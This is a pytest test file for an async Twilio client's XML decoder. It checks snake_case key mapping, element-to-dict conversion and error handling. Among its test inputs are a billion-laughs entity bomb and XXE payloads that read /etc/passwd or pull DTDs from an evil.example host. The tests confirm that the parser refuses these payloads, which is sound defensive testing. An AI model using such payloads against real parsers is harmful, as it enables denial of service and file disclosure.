"""XmlCodec and element_data: XML becomes plain data by one generic rule set."""

from __future__ import annotations

import time
import tracemalloc
from typing import Any

import pytest

from twilio_async import TwilioDecodeError
from twilio_async.codecs import Codec
from twilio_async.xml import XML, XmlCodec, element_data, parse_xml, snake_case

URL = "https://api.twilio.com/2008-08-01/Accounts/AC1/IncomingPhoneNumbers"


def decode(body: str | bytes) -> Any:
    return XML.decode(body.encode() if isinstance(body, str) else body, method="GET", url=URL)


def data(xml: str) -> Any:
    return element_data(parse_xml(xml.encode()))


@pytest.mark.parametrize(
    ("tag", "key"),
    [
        ("Sid", "sid"),
        ("AccountSid", "account_sid"),
        ("VoiceCallerIdLookup", "voice_caller_id_lookup"),
        ("SmsFallbackMethod", "sms_fallback_method"),
        ("IncomingPhoneNumbers", "incoming_phone_numbers"),
        ("MoreInfo", "more_info"),
        ("APIVersion", "api_version"),
        ("Uri", "uri"),
        ("numpages", "numpages"),
        ("Sms2Url", "sms2_url"),
    ],
)
def test_snake_case(tag: str, key: str) -> None:
    assert snake_case(tag) == key


def test_leaves_are_text_and_empty_leaves_are_none() -> None:
    assert data("<A>x</A>") == "x"
    assert data("<A> x </A>") == " x "  # text is kept as sent
    for empty in ("<A/>", "<A></A>", "<A>   </A>", "<A>\n  </A>"):
        assert data(empty) is None


def test_children_become_keys_and_repeated_children_a_list() -> None:
    assert data("<R><SmsUrl/><Url>u</Url></R>") == {"sms_url": None, "url": "u"}
    assert data("<L><Item>1</Item><Item>2</Item><Item>3</Item><Other>o</Other></L>") == {
        "item": ["1", "2", "3"],
        "other": "o",
    }
    assert data("<L><Item><A>1</A></Item></L>") == {"item": {"a": "1"}}
    assert data("<L><Item><A>1</A></Item><Item><A>2</A></Item></L>") == {
        "item": [{"a": "1"}, {"a": "2"}]
    }


def test_attributes_are_prefixed_and_never_collide_with_children() -> None:
    assert data('<L page="0" numpages="3"><Page>x</Page></L>') == {
        "@page": "0",
        "@numpages": "3",
        "page": "x",
    }
    assert data('<L page="1"/>') == {"@page": "1"}
    assert data('<A unit="s">12</A>') == {"@unit": "s", "#text": "12"}


def test_pretty_printed_documents_read_the_same() -> None:
    compact = "<R><A>1</A><B><C>2</C></B></R>"
    pretty = "<R>\n  <A>1</A>\n  <B>\n    <C>2</C>\n  </B>\n</R>\n"
    assert data(compact) == data(pretty) == {"a": "1", "b": {"c": "2"}}


def test_predefined_and_character_entities_are_text() -> None:
    assert data("<A>a &amp; b &lt;c&gt; &#233;&#x20AC;</A>") == "a & b <c> \u00e9\u20ac"


def test_decode_unwraps_twilio_response() -> None:
    record = "<IncomingPhoneNumber><Sid>PN1</Sid></IncomingPhoneNumber>"
    assert decode(f"<TwilioResponse>{record}</TwilioResponse>") == {"sid": "PN1"}
    assert decode('<?xml version="1.0" encoding="UTF-8"?>\n<TwilioResponse/>') is None
    assert decode(b"") is None
    assert decode(b"  \n") is None


def test_decode_reads_the_declared_encoding() -> None:
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><TwilioResponse><A>caf\xe9</A></TwilioResponse>'
    )
    assert decode(body.encode("latin-1")) == "caf\u00e9"


def test_xml_codec_is_a_codec() -> None:
    codec: Codec = XmlCodec()
    assert codec.accept == "application/xml"


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]><TwilioResponse><A>&lol9;</A></TwilioResponse>"
)


def test_billion_laughs_is_refused_before_any_expansion() -> None:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(TwilioDecodeError, match="DTDs and entity declarations are refused"):
            decode(BILLION_LAUGHS)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 0.5
    assert peak < 1024 * 1024


@pytest.mark.parametrize(
    "body",
    [
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><TwilioResponse>&x;</TwilioResponse>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><TwilioResponse/>',
        '<!DOCTYPE TwilioResponse SYSTEM "http://evil.example/r.dtd"><TwilioResponse/>',
        "<!DOCTYPE TwilioResponse><TwilioResponse/>",
    ],
    ids=["external-entity", "parameter-entity", "external-dtd", "bare-doctype"],
)
def test_any_document_type_declaration_is_refused(body: str) -> None:
    with pytest.raises(TwilioDecodeError, match="DTD") as caught:
        decode(body)
    assert caught.value.url == URL
    assert caught.value.method == "GET"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("<TwilioResponse>", "not well-formed XML"),
        ("<TwilioResponse><A></B></TwilioResponse>", "not well-formed XML"),
        ("not xml at all", "not well-formed XML"),
        ("<TwilioResponse>&nbsp;</TwilioResponse>", "not well-formed XML"),
        ("<Response><A/></Response>", "expected a <TwilioResponse> document, got <Response>"),
        ("<TwilioResponse><A/><B/></TwilioResponse>", "holds 2 .*<A>, <B>"),
        ("<TwilioResponse>" + "<X>" * 40 + "</X>" * 40 + "</TwilioResponse>", "nested"),
    ],
)
def test_malformed_or_foreign_xml_is_a_decode_error(body: str, message: str) -> None:
    with pytest.raises(TwilioDecodeError, match=message) as caught:
        decode(body)
    assert str(caught.value).endswith(f"(GET {URL})")
    assert caught.value.__cause__ is None
